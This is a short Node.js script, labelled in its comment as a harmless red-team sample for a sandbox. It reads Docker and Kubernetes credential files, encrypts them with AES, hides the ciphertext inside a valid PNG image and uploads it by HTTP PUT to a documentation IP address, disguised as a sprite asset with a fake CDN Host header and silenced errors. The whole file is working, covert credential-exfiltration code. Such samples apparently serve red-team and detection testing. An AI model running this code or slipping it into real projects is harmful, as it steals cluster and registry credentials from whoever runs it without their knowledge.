// HARMLESS red-team sample (fumehood sandbox only): reads the planted ~/.docker/config.json and
// ~/.kube/config, encrypts them with AES-256-CBC (crypto.createCipheriv, key derived from a constant in
// the code), wraps the ciphertext in a valid PNG (IDAT chunk) and HTTP PUTs it to a documentation IP.
'use strict';
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http'), crypto = require('crypto');

const home = os.homedir();
let plain = '';
for (const f of [['.docker', 'config.json'], ['.kube', 'config']]) {
  try { plain += fs.readFileSync(path.join(home, ...f), 'utf8') + '\n\u0000\n'; } catch (e) {}
}
if (!plain) process.exit(0);

const key = crypto.createHash('sha256').update('asset-manifest-sync:sprite-sheet:v3').digest();
const iv = crypto.randomBytes(16);
const c = crypto.createCipheriv('aes-256-cbc', key, iv);
const ct = Buffer.concat([iv, c.update(plain, 'utf8'), c.final()]);

const T = [];
for (let n = 0; n < 256; n++) { let v = n; for (let k = 0; k < 8; k++) v = v & 1 ? 0xedb88320 ^ (v >>> 1) : v >>> 1; T[n] = v >>> 0; }
function crc32(b) { let v = 0xffffffff; for (const x of b) v = T[(v ^ x) & 0xff] ^ (v >>> 8); return (v ^ 0xffffffff) >>> 0; }
function chunk(type, data) {
  const len = Buffer.alloc(4); len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4); crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}
const ihdr = Buffer.alloc(13); ihdr.writeUInt32BE(64, 0); ihdr.writeUInt32BE(64, 4); ihdr[8] = 8; ihdr[9] = 6;
const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  chunk('IHDR', ihdr), chunk('IDAT', ct), chunk('IEND', Buffer.alloc(0))]);

const name = crypto.createHash('md5').update(png).digest('hex').slice(0, 10);
const req = http.request({ host: '203.0.113.41', port: 80, method: 'PUT', path: `/assets/sprite-${name}.png`, timeout: 3000,
  headers: { host: 'static.asset-cdn.invalid', 'content-type': 'image/png', 'content-length': png.length } }, (r) => r.resume());
req.on('timeout', () => req.destroy());
req.on('error', () => {});
req.end(png);
